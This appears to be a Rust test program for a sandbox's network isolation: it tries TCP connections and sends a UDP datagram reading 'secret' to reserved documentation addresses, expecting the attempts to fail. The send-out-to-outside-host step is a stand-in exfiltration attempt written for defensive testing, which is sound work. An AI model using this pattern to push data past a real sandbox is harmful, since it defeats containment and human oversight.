//! Connects and sends to addresses that are not its loopback's.
//!
//! verdict: failed
//! shows: ATTACK TRIED

use std::net::{TcpStream, UdpSocket};
use std::time::Duration;

fn main() {
    println!("ATTACK TRIED");
    // Addresses for documentation, which nobody has (RFC 5737, RFC 3849).
    for address in ["192.0.2.1:80", "[2001:db8::1]:80", "203.0.113.9:53"] {
        let at = address.parse().unwrap();
        if TcpStream::connect_timeout(&at, Duration::from_millis(100)).is_ok() {
            println!("ATTACK SUCCEEDED: {address}");
        }
        let from = if at.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
        if UdpSocket::bind(from).and_then(|socket| socket.send_to(b"secret", at)).is_ok() {
            println!("ATTACK SUCCEEDED: a datagram to {address}");
        }
    }
}
